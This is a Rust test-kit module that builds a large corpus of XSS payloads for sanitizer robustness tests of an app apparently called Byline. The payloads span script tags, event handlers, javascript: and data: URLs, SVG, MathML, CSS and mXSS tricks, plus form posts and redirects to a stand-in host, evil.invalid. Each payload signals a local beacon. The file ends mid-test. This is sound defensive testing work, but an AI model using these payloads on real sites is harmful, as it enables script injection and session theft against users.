//! A corpus of hostile HTML and URLs (XSS payloads), generated from
//! families × encodings, for the robustness tests.
//!
//! Every payload, if it ever ran, would leave a trace a test can see: its
//! script ([`script_for`]) sets `top.__pwned` and `window.__pwned` to its id,
//! requests `<beacon>/<id>` with `fetch`, and asks the app to open that same
//! URL through Tauri's IPC (`open_external`, which a test's fake `xdg-open`
//! records). The beacon URL only ever appears inside script text, never as a
//! plain link or image, so a request for it means a script ran.
//!
//! Written for Byline from the usual families of the public cheat sheets
//! (OWASP's filter-evasion list, PortSwigger's, the DOMPurify and html5lib
//! test suites' mXSS cases); no payload is copied from them.
//!
//! ```
//! let corpus = byline_testkit::xss::Corpus::new("http://127.0.0.1:9/beacon");
//! assert!(corpus.html.len() >= 500);
//! let first = &corpus.html[0];
//! assert_eq!(first.text, format!("<script>{}</script>", byline_testkit::xss::script_for("http://127.0.0.1:9/beacon", &first.id)));
//! ```

use std::collections::HashSet;

/// Where a script that ran would leave its mark on the test's server.
pub const BEACON_PATH: &str = "/beacon";

/// One hostile string.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    /// A short unique id (`x0042`), also the script's mark and beacon path.
    pub id: String,
    /// The family it belongs to (`script`, `handler`, `url`, `svg`, …).
    pub family: &'static str,
    /// The payload itself: an HTML fragment, or a URL for [`Corpus::urls`].
    pub text: String,
}

/// The whole corpus for one beacon base URL.
#[derive(Debug, Clone)]
pub struct Corpus {
    /// HTML fragments, for any field that may carry markup or text.
    pub html: Vec<Payload>,
    /// Hostile URLs (script, data and odd schemes, encoded), for the fields
    /// that hold a URL (links, images, enclosures, OPML addresses).
    pub urls: Vec<Payload>,
}

/// The script a payload runs, with no space, quote, `<`, `>` or `&`, so it
/// fits any attribute or URL as is.
pub fn script_for(beacon: &str, id: &str) -> String {
    format!(
        "top.__pwned=window.__pwned=`{id}`;fetch(`{beacon}/{id}`);\
         top.__TAURI_INTERNALS__.invoke(`open_external`,{{url:`{beacon}/{id}`}})"
    )
}

impl Corpus {
    /// Generates the corpus; `beacon` is e.g. `http://127.0.0.1:PORT/beacon`.
    pub fn new(beacon: &str) -> Corpus {
        let mut html = Generator::new("x", beacon);
        html_templates(&mut html);
        let mut urls = Generator::new("u", beacon);
        for scheme in script_urls() {
            urls.push("url", &scheme);
        }
        Corpus { html: html.out, urls: urls.out }
    }

    /// Every payload, HTML and URL.
    pub fn all(&self) -> impl Iterator<Item = &Payload> {
        self.html.iter().chain(&self.urls)
    }

    /// The distinct families, in order of first appearance.
    pub fn families(&self) -> Vec<&'static str> {
        let mut seen = Vec::new();
        for p in self.all() {
            if !seen.contains(&p.family) {
                seen.push(p.family);
            }
        }
        seen
    }
}

/// Placeholders in templates: the script, the script as HTML character
/// references, `<script>…</script>` and an SVG with an `onload` in base64,
/// and the id alone (for payloads that try to navigate to
/// `http://evil.invalid/<id>/` rather than run a script).
const JS: &str = "{JS}";
const JS_ENTITIES: &str = "{JS&}";
const JS_B64: &str = "{JS64}";
const SVG_B64: &str = "{SVG64}";
const ID: &str = "{ID}";

struct Generator {
    prefix: &'static str,
    beacon: String,
    seen: HashSet<String>,
    out: Vec<Payload>,
}

impl Generator {
    fn new(prefix: &'static str, beacon: &str) -> Generator {
        Generator { prefix, beacon: beacon.trim_end_matches('/').to_owned(), seen: HashSet::new(), out: Vec::new() }
    }

    /// Adds one template (once), filling in its script.
    fn push(&mut self, family: &'static str, template: &str) {
        if !self.seen.insert(template.to_owned()) {
            return;
        }
        let id = format!("{}{:04}", self.prefix, self.out.len() + 1);
        let js = script_for(&self.beacon, &id);
        let text = template
            .replace(JS_ENTITIES, &entities(&js))
            .replace(JS_B64, &base64(format!("<script>{js}</script>").as_bytes()))
            .replace(
                SVG_B64,
                &base64(format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{js}\"/>").as_bytes()),
            )
            .replace(JS, &js)
            .replace(ID, &id);
        self.out.push(Payload { id, family, text });
    }
}

/// `javascript:`, `data:` and `vbscript:` URLs, plain and encoded.
fn script_urls() -> Vec<String> {
    let mut out = Vec::new();
    for scheme in [
        "javascript:",
        "JaVaScRiPt:",
        "JAVASCRIPT:",
        " javascript:",
        "\tjavascript:",
        "\u{1}javascript:",
        "\u{0}javascript:",
        "java\tscript:",
        "java\nscript:",
        "java\rscript:",
        "java\u{0}script:",
        "java&#x09;script:",
        "java&#9;script:",
        "java&Tab;script:",
        "java&NewLine;script:",
        "&#106;avascript:",
        "&#0000106;&#0000097;vascript:",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;",
        "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58",
        "javascript&colon;",
        "javascript&#58;",
        "javascript&#x3a;",
        "jav&#x61;script:",
        "%6Aavascript:",
        "javascript%3A",
        "&#14;javascript:",
        "javascript://%0a",
        "javascript:/*--></title></style></textarea></script><svg/onload=",
        "vbscript:",
        "VBScript:",
        "livescript:",
        "mocha:",
    ] {
        out.push(format!("{scheme}{JS}"));
    }
    for data in [
        "data:text/html,<script>{JS}</script>",
        "data:text/html;charset=utf-8,<script>{JS}</script>",
        "DATA:text/html,<svg/onload={JS}>",
        "data:text/html;base64,{JS64}",
        " data:text/html;base64,{JS64}",
        "data:image/svg+xml;base64,{SVG64}",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
        "data:text/javascript,{JS}",
        "data:application/javascript,{JS}",
        "data:,{JS}",
        "d&#97;ta:text/html,<script>{JS}</script>",
        "data&colon;text/html,<script>{JS}</script>",
        "data:text/html,%3Cscript%3E{JS}%3C/script%3E",
        "data:application/x-shockwave-flash,{JS}",
        "blob:null/{JS}",
        "filesystem:null/{JS}",
        "file:///etc/passwd#{JS}",
        "about:blank#{JS}",
        "tauri://localhost/#{JS}",
        "ipc://localhost/open_external#{JS}",
        "view-source:javascript:{JS}",
    ] {
        out.push(data.to_owned());
    }
    out
}

/// Every HTML template, by family.
fn html_templates(g: &mut Generator) {
    scripts(g);
    handlers(g);
    url_contexts(g);
    svg(g);
    mathml(g);
    css(g);
    base_and_meta(g);
    frames_and_forms(g);
    mxss(g);
    comments(g);
    text(g);
}

fn scripts(g: &mut Generator) {
    for t in [
        "<script>{JS}</script>",
        "<SCRIPT>{JS}</SCRIPT>",
        "<ScRiPt>{JS}</sCrIpT>",
        "<script type=text/javascript>{JS}</script>",
        "<script type=module>{JS}</script>",
        "<script language=javascript>{JS}</script>",
        "<script/x>{JS}</script>",
        "<script\n>{JS}</script>",
        "<script >{JS}</script >",
        "<<script>{JS}//<</script>",
        "<script>{JS}</script",
        "<script src=data:text/javascript,{JS}></script>",
        "<script src=\"data:,{JS}\"></script>",
        "<script src=data:text/javascript;base64,{JS64}></script>",
        "<script>/*<![CDATA[*/{JS}/*]]>*/</script>",
        "<script><!--\n{JS}//--></script>",
        "<scr<script>ipt>{JS}</scr</script>ipt>",
        "<scri\u{0}pt>{JS}</script>",
        "<script defer>{JS}</script>",
        "<script async>{JS}</script>",
        "<script nonce=x>{JS}</script>",
        "<p><script>{JS}</script></p>",
        "<table><script>{JS}</script></table>",
        "<select><script>{JS}</script></select>",
        "<svg><script>{JS}</script></svg>",
        "<svg><script xlink:href=data:,{JS} />",
        "<svg><script href=data:,{JS}></script></svg>",
        "<math><script>{JS}</script></math>",
        "\u{feff}<script>{JS}</script>",
        "<script>eval(atob(`{JS64}`.slice(0,0))+`{JS}`)</script>",
    ] {
        g.push("script", t);
    }
}

/// Handlers that fire without the user, with the markup that fires them.
const AUTO: &[(&str, &str)] = &[
    ("img src=x", "onerror"),
    ("img src=x", "onloadstart"),
    ("image src=x", "onerror"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio autoplay src=x", "oncanplay"),
    ("video autoplay muted src=x", "onplay"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("body", "onresize"),
    ("body", "onfocus"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("iframe", "onload"),
    ("iframe src=x", "onerror"),
    ("object data=x", "onerror"),
    ("object data=x", "onload"),
    ("embed src=x", "onload"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("link rel=stylesheet href=x", "onload"),
    ("link rel=preload as=script href=x", "onerror"),
    ("script src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("input autofocus", "onfocusin"),
    ("input type=image src=x", "onerror"),
    ("input type=hidden accesskey=x", "onclick"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("keygen autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("div tabindex=1 autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("marquee", "onstart"),
    ("marquee loop=1 width=0", "onfinish"),
    ("frameset", "onload"),
    ("form><button", "onformdata"),
    ("div style=animation-name:spin", "onanimationstart"),
    ("div style=transition:color&#32;1s", "ontransitionend"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><animate attributeName=x dur=1s repeatCount=2", "onrepeat"),
    ("svg><animate attributeName=x dur=1s", "onend"),
    ("svg><set attributeName=x to=1", "onbegin"),
    ("html", "onpointerover"),
    ("bgsound src=x", "onerror"),
    ("track src=x default", "onerror"),
    ("isindex type=image src=x", "onerror"),
];

/// Handlers a reader might trigger by moving, clicking, scrolling or copying.
const USER: &[&str] = &[
    "onclick",
    "ondblclick",
    "onmousedown",
    "onmouseup",
    "onmouseover",
    "onmouseenter",
    "onmousemove",
    "onmouseout",
    "onmouseleave",
    "onpointerdown",
    "onpointerup",
    "onpointerover",
    "onpointerenter",
    "onpointermove",
    "onwheel",
    "onscroll",
    "oncontextmenu",
    "onauxclick",
    "onkeydown",
    "onkeyup",
    "onkeypress",
    "oncopy",
    "oncut",
    "onpaste",
    "onbeforecopy",
    "onselectstart",
    "onselect",
    "onfocusin",
    "onfocusout",
    "onblur",
    "ondrag",
    "ondragstart",
    "ondragenter",
    "ondrop",
    "ontouchstart",
    "ontouchend",
    "onbeforeinput",
    "oninput",
    "onchange",
    "oninvalid",
    "onsubmit",
    "onreset",
    "onsearch",
    "onbeforeprint",
    "onafterprint",
    "onmessage",
    "onpopstate",
    "onstorage",
    "onunload",
    "onbeforeunload",
];

const TAGS: &[&str] =
    &["p", "div", "a href=#", "span", "img src=x", "h1", "b", "table", "li", "blockquote", "figure", "section"];

fn handlers(g: &mut Generator) {
    // Each auto-firing handler, in several spellings.
    for (i, (tag, handler)) in AUTO.iter().enumerate() {
        g.push("handler", &format!("<{tag} {handler}={JS}>"));
        g.push("handler", &format!("<{tag} {handler}=\"{JS}\">"));
        g.push("handler", &format!("<{tag} {handler}='{JS_ENTITIES}'>"));
        let upper = handler.to_ascii_uppercase();
        match i % 5 {
            0 => g.push("handler", &format!("<{} {upper}={JS}>", tag.to_ascii_uppercase())),
            1 => g.push("handler", &format!("<{}/{handler}={JS}>", tag.replace(' ', "/"))),
            2 => g.push("handler", &format!("<{tag}\n{handler}\n=\n{JS}>")),
            3 => g.push("handler", &format!("<{tag} x=\" {handler}=x\" {handler}={JS}>")),
            _ => g.push("handler", &format!("<{tag}\u{c}{handler}\t=\t\"{JS}\"//>")),
        }
    }
    // Every user-triggered handler on three tags, rotating through them.
    for (i, handler) in USER.iter().enumerate() {
        for k in 0..3 {
            let tag = TAGS[(i + k * 5) % TAGS.len()];
            g.push("handler", &format!("<{tag} {handler}={JS}>hover, click or copy me</{}>", end_tag(tag)));
        }
    }
}

fn end_tag(tag: &str) -> &str {
    tag.split([' ', '/', '>']).next().unwrap_or(tag)
}

/// Where a URL can make something run or load.
const URL_CONTEXTS: &[&str] = &[
    "<a href=\"{U}\">click me</a>",
    "<a href=\"{U}\" target=_top>click me</a>",
    "<a xlink:href=\"{U}\">click me</a>",
    "<img src=\"{U}\">",
    "<img srcset=\"{U} 1x, {U} 2x\">",
    "<picture><source srcset=\"{U}\"><img src=x></picture>",
    "<video poster=\"{U}\" src=\"{U}\"></video>",
    "<audio src=\"{U}\"></audio>",
    "<table background=\"{U}\"><tr><td background=\"{U}\">x</td></tr></table>",
    "<iframe src=\"{U}\"></iframe>",
    "<frame src=\"{U}\">",
    "<object data=\"{U}\"></object>",
    "<embed src=\"{U}\">",
    "<form action=\"{U}\"><input type=submit value=go></form>",
    "<form><button formaction=\"{U}\">go</button></form>",
    "<svg><a xlink:href=\"{U}\"><text y=20>click me</text></a></svg>",
    "<svg><a href=\"{U}\"><circle r=40 /></a></svg>",
    "<math><mi xlink:href=\"{U}\">click me</mi></math>",
    "<blockquote cite=\"{U}\">quote</blockquote>",
    "<link rel=stylesheet href=\"{U}\">",
    "<base href=\"{U}\"><a href=x>relative</a>",
    "<meta http-equiv=refresh content=\"0;url={U}\">",
    "<area href=\"{U}\">",
    "<div data-src=\"{U}\" lowsrc=\"{U}\" dynsrc=\"{U}\">x</div>",
];

fn url_contexts(g: &mut Generator) {
    let urls = script_urls();
    for (c, context) in URL_CONTEXTS.iter().enumerate() {
        // Links get every URL; the other contexts a rotating quarter.
        for (u, url) in urls.iter().enumerate() {
            if c < 2 || (u + c) % 4 == 0 {
                let url = url.replace('"', "&quot;");
                g.push("url", &context.replace("{U}", &url));
            }
        }
    }
}

fn svg(g: &mut Generator) {
    for t in [
        "<svg onload={JS}>",
        "<svg><g onload={JS}></g></svg>",
        "<svg><animate onbegin={JS} attributeName=x dur=1s>",
        "<svg><animate attributeName=href values=javascript:{JS} /><a id=x><text y=20>click</text></a></svg>",
        "<svg><a><animate attributeName=href to=javascript:{JS} /><text y=20>click me</text></a></svg>",
        "<svg><a><set attributeName=href to=javascript:{JS} /><text y=20>click me</text></a></svg>",
        "<svg><set attributeName=onmouseover to={JS} /></svg>",
        "<svg><animate attributeName=onload to={JS} begin=0s /></svg>",
        "<svg><use href=\"data:image/svg+xml;base64,{SVG64}#x\" /></svg>",
        "<svg><use xlink:href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='{JS}'/></svg>#x\" /></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>{JS}</script>\"></iframe></foreignObject></svg>",
        "<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
        "<svg><image href=x onerror={JS} /></svg>",
        "<svg><image xlink:href=x onerror={JS} /></svg>",
        "<svg><feImage href=x onerror={JS} /></svg>",
        "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{JS}</handler></svg>",
        "<svg><style>@import url(javascript:{JS});</style></svg>",
        "<svg><desc><img src=x onerror={JS}></desc></svg>",
        "<svg><title><img src=x onerror={JS}></title></svg>",
        "<svg><textarea><img src=x onerror={JS}></textarea></svg>",
        "<svg><style><img src=x onerror={JS}></style></svg>",
        "<svg><discard onbegin={JS} /></svg>",
        "<svg><animateTransform onbegin={JS} attributeName=transform type=scale dur=1s /></svg>",
        "<svg><animateMotion onbegin={JS} dur=1s path=M0,0 /></svg>",
        "<svg><script>{JS}</script><p>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{JS}\"/>",
        "<svg><svg onload={JS}>",
        "<svg><iframe onload={JS}></iframe></svg>",
        "<svg><a xmlns:xlink=http://www.w3.org/1999/xlink xlink:href=javascript:{JS}><rect width=99 height=99 /></a></svg>",
        "<svg><!--<img src=x onerror={JS}>--></svg>",
    ] {
        g.push("svg", t);
    }
}

fn mathml(g: &mut Generator) {
    for t in [
        "<math><maction actiontype=statusline xlink:href=javascript:{JS}>click me<mtext>x</mtext></maction></math>",
        "<math><maction actiontype=toggle xlink:href=javascript:{JS}><mtext>click</mtext><mtext>me</mtext></maction></math>",
        "<math href=javascript:{JS}>click me</math>",
        "<math><mi href=javascript:{JS}>click me</mi></math>",
        "<math><mtext href=javascript:{JS}>click me</mtext></math>",
        "<math><a xlink:href=javascript:{JS}>click me</a></math>",
        "<math><mtext><img src=x onerror={JS}></mtext></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror={JS}></style></mglyph></table></mtext></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={JS}&gt;\">",
        "<math><mi><mglyph><svg><mtext><textarea><a title=\"</textarea><img src=x onerror={JS}>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={JS}>",
        "<math><annotation-xml encoding=text/html><img src=x onerror={JS}></annotation-xml></math>",
        "<math><annotation-xml encoding=application/xhtml+xml><style><img src=x onerror={JS}>",
        "<math><semantics><annotation-xml encoding=text/html><iframe src=javascript:{JS}>",
        "<math><style><img src=x onerror={JS}></style></math>",
        "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror={JS}>\">",
        "<math onclick={JS}>click me</math>",
        "<math><mo onmouseover={JS}>hover me</mo></math>",
    ] {
        g.push("mathml", t);
    }
}

fn css(g: &mut Generator) {
    for t in [
        "<div style=\"background:url(javascript:{JS})\">x</div>",
        "<div style=\"background-image:url('javascript:{JS}')\">x</div>",
        "<div style=\"width:expression({JS})\">x</div>",
        "<div style=\"x:expr/**/ession({JS})\">x</div>",
        "<div style=\"x:\\65xpression({JS})\">x</div>",
        "<div style=\"-moz-binding:url(data:text/xml,{JS})\">x</div>",
        "<div style=\"behavior:url(javascript:{JS})\">x</div>",
        "<div style=\"list-style:url(javascript:{JS})\">x</div>",
        "<p style=\"background:url(&#106;avascript:{JS})\">x</p>",
        "<p style=\"background:url(data:image/svg+xml;base64,{SVG64})\">x</p>",
        "<style>@import 'javascript:{JS}';</style>",
        "<style>@import url(data:text/css,*{background:url(javascript:{JS})});</style>",
        "<style>body{background:url(\"javascript:{JS}\")}</style>",
        "<style>*{x:expression({JS})}</style>",
        "<style>li{list-style-image:url(\"javascript:{JS}\")}</style><ul><li>x</li></ul>",
        "<style>@keyframes spin{}</style><div style=animation-name:spin onanimationstart={JS}>x</div>",
        "<style>a{-moz-binding:url(\"data:text/xml,{JS}\")}</style>",
        "<style>@font-face{font-family:x;src:url(javascript:{JS})}</style>",
        "<style>:root{--x:url(javascript:{JS})}</style>",
        "<style></style><img src=x onerror={JS}><style>",
        "<style><!--</style><img src=x onerror={JS}>-->",
        "<link rel=stylesheet href=\"data:text/css,*{background:url(javascript:{JS})}\">",
        "<link rel=import href=\"data:text/html,<script>{JS}</script>\">",
        "<xss style=\"xss:expression({JS})\">x</xss>",
        "<div style=\"background:url(vbscript:{JS})\">x</div>",
        "<img style=\"xss:expr/*x*/ession({JS})\" src=x>",
    ] {
        g.push("css", t);
    }
}

fn base_and_meta(g: &mut Generator) {
    for t in [
        "<base href=javascript:{JS}//><a href=x>relative</a>",
        "<base href=\"http://evil.invalid/{ID}/\"><a href=x>relative</a><img src=y>",
        "<base target=_top href=\"http://evil.invalid/{ID}/\">",
        "<base href=data:text/html,<script>{JS}</script>/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:{JS}\">",
        "<meta http-equiv=refresh content=\"0; URL='data:text/html;base64,{JS64}'\">",
        "<meta http-equiv=refresh content=\"0;url=http://evil.invalid/{ID}/\">",
        "<meta http-equiv=refresh content=\"0;url=tauri://localhost/#{JS}\">",
        "<meta http-equiv=Refresh content=0;javascript:{JS}>",
        "<meta charset=utf-7>+ADw-script+AD4-{JS}+ADw-/script+AD4-",
        "<meta http-equiv=Content-Type content=\"text/html;charset=UTF-7\">+ADw-img src=x onerror=+ACI-{JS}+ACI-+AD4-",
        "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>{JS}</script>",
        "<meta http-equiv=set-cookie content=\"pwned={JS}\">",
        "<meta name=referrer content=unsafe-url><img src=x onerror={JS}>",
        "<meta property=og:image content=\"javascript:{JS}\">",
        "<head><base href=javascript:/><script src=x>{JS}</script></head>",
    ] {
        g.push("base-meta", t);
    }
}

fn frames_and_forms(g: &mut Generator) {
    for t in [
        "<iframe srcdoc=\"<script>{JS}</script>\"></iframe>",
        "<iframe srcdoc=\"&lt;img src=x onerror={JS}&gt;\"></iframe>",
        "<iframe srcdoc='&#60;script&#62;{JS}&#60;/script&#62;'></iframe>",
        "<iframe src=\"data:text/html,<script>{JS}</script>\" sandbox=allow-scripts></iframe>",
        "<iframe src=javascript:{JS}></iframe>",
        "<iframe/src=\"data:text/html;base64,{JS64}\">",
        "<iframe onload={JS} src=about:blank></iframe>",
        "<iframe src=\"tauri://localhost/\" onload={JS}></iframe>",
        "<iframe name=x></iframe><a href=javascript:{JS} target=x>click me</a>",
        // A video site's player becomes a link to the video: never with the frame's own attributes.
        "<iframe src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" onload={JS}></iframe>",
        "<iframe srcdoc=\"<script>{JS}</script>\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\"></iframe>",
        "<p title=\"<iframe src=https://www.youtube.com/embed/dQw4w9WgXcQ>\">x</p><img src=x onerror={JS}>",
        "<iframe src=\"https://www.youtube.com/embed/x&quot;onmouseover={JS}\"></iframe>",
        // A Telegram post's widget becomes a link to the post: never with the script's own attributes.
        "<script data-telegram-post=\"oxuaz/1\" onload={JS}>{JS}</script>",
        "<script data-telegram-post=\"oxuaz/1&quot;onmouseover={JS}\" src=\"https://telegram.org/js/telegram-widget.js\"></script>",
        "<iframe src=\"https://t.me/oxuaz/1?embed=1\" onload={JS}></iframe>",
        // A lazy picture's real address is put in its src before the sanitizer reads it.
        "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" data-lazy-src=\"javascript:{JS}\">",
        "<img src=\"/blank.gif\" data-srcset=\"javascript:{JS} 800w\" onerror={JS}>",
        // A Facebook post's frame or SDK element becomes a link to the post, built from its checked path only.
        "<iframe src=\"https://www.facebook.com/plugins/post.php?href=javascript:{JS}\"></iframe>",
        "<div class=\"fb-post\" data-href=\"https://www.facebook.com/x/posts/1\" onmouseover={JS}></div>",
        "<object data=javascript:{JS}></object>",
        "<object data=\"data:text/html;base64,{JS64}\"></object>",
        "<object type=text/html data=\"data:text/html,<script>{JS}</script>\"></object>",
        "<object><param name=src value=javascript:{JS}></object>",
        "<object classid=clsid:x codebase=javascript:{JS}></object>",
        "<embed src=javascript:{JS}>",
        "<embed src=\"data:image/svg+xml;base64,{SVG64}\" type=image/svg+xml>",
        "<embed code=javascript:{JS} allowscriptaccess=always>",
        "<applet code=javascript:{JS}></applet>",
        "<portal src=javascript:{JS}></portal>",
        "<frameset><frame src=javascript:{JS}></frameset>",
        "<form action=javascript:{JS}><input type=submit value=go></form>",
        "<form action=javascript:{JS}><button>go</button></form>",
        "<form id=f></form><button form=f formaction=javascript:{JS}>go</button>",
        "<form><input type=image src=x formaction=javascript:{JS}></form>",
        "<form method=post action=http://evil.invalid/{ID}/><input name=x value=1><button>go</button></form>",
        "<form onsubmit={JS}><input autofocus><button>go</button></form>",
        "<form><textarea onfocus={JS} autofocus></textarea></form>",
        "<isindex action=javascript:{JS} type=image>",
        "<input type=text value=x onfocus={JS} autofocus>",
        "<button popovertarget=x>open</button><div popover id=x onbeforetoggle={JS}>x</div>",
        "<dialog open onclose={JS}><form method=dialog><button>close</button></form></dialog>",
        "<a href=javascript:{JS} download>download</a>",
        "<a href=http://evil.invalid/{ID}/ ping=javascript:{JS}>ping</a>",
        "<a href=\"http://evil.invalid/{ID}/\" target=_top>leave the app</a>",
        "<a href=\"tauri://localhost/index.html#{JS}\">app url</a>",
        "<a href=\"file:///etc/passwd#{ID}\">a file</a>",
    ] {
        g.push("frame-form", t);
    }
}

fn mxss(g: &mut Generator) {
    for t in [
        "<noscript><p title=\"</noscript><img src=x onerror={JS}>\"></noscript>",
        "<noscript><style></noscript><img src=x onerror={JS}>",
        "<noembed><img title=\"</noembed><img src=x onerror={JS}>\"></noembed>",
        "<noframes><p title=\"</noframes><img src=x onerror={JS}>\"></noframes>",
        "<xmp><p title=\"</xmp><img src=x onerror={JS}>\"></xmp>",
        "<textarea><p title=\"</textarea><img src=x onerror={JS}>\"></textarea>",
        "<title><p title=\"</title><img src=x onerror={JS}>\"></title>",
        "<iframe><p title=\"</iframe><img src=x onerror={JS}>\"></iframe>",
        "<style><p title=\"</style><img src=x onerror={JS}>\"></style>",
        "<plaintext><img src=x onerror={JS}>",
        "<template><script>{JS}</script></template>",
        "<template><img src=x onerror={JS}></template>",
        "<template><template><img src=x onerror={JS}></template></template>",
        "<svg></p><style><a id=\"</style><img src=1 onerror={JS}>\">",
        "<svg><p><style><img src=x onerror={JS}></style></p></svg>",
        "<svg><p><style><a title=\"</style><img src=x onerror={JS}>\"></style></p></svg>",
        "<table><td><svg><desc><img src=x onerror={JS}></desc></svg></td></table>",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={JS}>\">",
        "<a title=\"&lt;img src=x onerror={JS}&gt;\">attribute text</a>",
        "<p title=\"&#60;script&#62;{JS}&#60;/script&#62;\">attribute text</p>",
        "<img alt=\"<script>{JS}</script>\" src=x>",
        "<div id=\"x\" class=\"&quot; onmouseover={JS} &quot;\">x</div>",
        "<a href=\"</a><img src=x onerror={JS}>\">x</a>",
        "<p>&lt;img src=x onerror={JS}&gt;</p>",
        "<p>&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;</p>",
        "<img src=`x` onerror=`{JS}`>",
        "<img src=\"x` `<script>{JS}</script>\"` `>",
        "<div><![CDATA[</div><img src=x onerror={JS}>]]>",
        "<listing>&lt;img src=x onerror={JS}&gt;</listing>",
        "<keygen><img src=x onerror={JS}>",
        "<image src=x onerror={JS}>",
        "<img src=x one\u{0}rror={JS}>",
        "<img src=x on\u{ad}error={JS}>",
        "<img src=x \u{2028}onerror={JS}>",
        "<ıMG SRC=x ONERROR={JS}>",
        "<img src=x onerror={JS}\u{0}>",
        "<div \"><img src=x onerror={JS}>\"></div>",
        "</p></div></article></body><img src=x onerror={JS}>",
        "</textarea></title></style></script><img src=x onerror={JS}>",
        "<object><embed src=javascript:{JS}></object>",
    ] {
        g.push("mxss", t);
    }
}

fn comments(g: &mut Generator) {
    for t in [
        "<!--><img src=x onerror={JS}>-->",
        "<!---><img src=x onerror={JS}>-->",
        "<!-- --!><img src=x onerror={JS}>-->",
        "<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
        "<!--[if]><img src=x onerror={JS}>-->",
        "<![CDATA[><img src=x onerror={JS}>]]>",
        "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror={JS}>\"></svg>",
        "<math><![CDATA[</math><img src=x onerror={JS}>]]></math>",
        "<? ><img src=x onerror={JS}> ?>",
        "<?xml-stylesheet href=\"javascript:{JS}\"?>",
        "<!DOCTYPE x [<!ENTITY x \"<img src=x onerror={JS}>\">]>&x;",
        "<!-- <script> -->{JS}<!-- </script> -->",
        "<a href=x><!--</a><img src=x onerror={JS}>--></a>",
        "<p><!--<p title=\"--><img src=x onerror={JS}>\"></p>",
        "<!--\u{0}--><img src=x onerror={JS}>",
        "<!-- a -- b --><script>{JS}</script>",
    ] {
        g.push("comment-cdata", t);
    }
}

/// Markup as text: what a plain-text field or a careless renderer might decode.
fn text(g: &mut Generator) {
    for t in [
        "{{constructor.constructor(`{JS}`)()}}",
        "${{{JS}}}",
        "\"><img src=x onerror={JS}>",
        "'><svg onload={JS}>",
        "</title><script>{JS}</script>",
        "\" onmouseover=\"{JS}\" x=\"",
        "' autofocus onfocus='{JS}' x='",
        "javascript:{JS}",
        "&lt;script&gt;{JS}&lt;/script&gt;",
        "&#60;img src=x onerror={JS}&#62;",
        "%3Cscript%3E{JS}%3C/script%3E",
        "\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
        "<img src=x onerror={JS&}>",
        "<a href=\"&#x6A;avascript:{JS&}\">click me</a>",
    ] {
        g.push("text", t);
    }
}

/// Every character of `s` as a decimal character reference.
fn entities(s: &str) -> String {
    s.chars().map(|c| format!("&#{};", c as u32)).collect()
}

/// Standard base64 with padding.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().enumerate().fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_corpus_is_large_distinct_and_traced() {
        let corpus = Corpus::new("http://127.0.0.1:9/beacon");
        assert!(corpus.html.len() >= 500, "{} HTML payloads", corpus.html.len());
        let texts: HashSet<&str> = corpus.all().map(|p| p.text.as_str()).collect();
        assert_eq!(texts.len(), corpus.html.len() + corpus.urls.len(), "payloads are distinct");
        let ids: HashSet<&str> = corpus.all().map(|p| p.id.as_str()).collect();
        assert_eq!(ids.len(), texts.len(), "ids are unique");
        let mut untraced = Vec::new();
        for p in corpus.all() {
            // Each carries its own id in its script, plainly or encoded.
            let traced = p.text.contains(&format!("/beacon/{}", p.id))
                || p.text.contains(&entities(&format!("/beacon/{}", p.id)))
                || p.text.contains("base64,")
                || p.text.contains(&format!("evil.invalid/{}/", p.id))
                || p.text.contains(&format!("passwd#{}", p.id));
            if !traced {
                untraced.push(format!("{}: {}", p.id, p.text));
            }
        }
        assert!(untraced.is_empty(), "payloads that leave no trace: {untraced:#?}");
        for family in ["script", "handler", "url", "svg", "mathml", "css", "base-meta", "frame-form", "mxss"] {
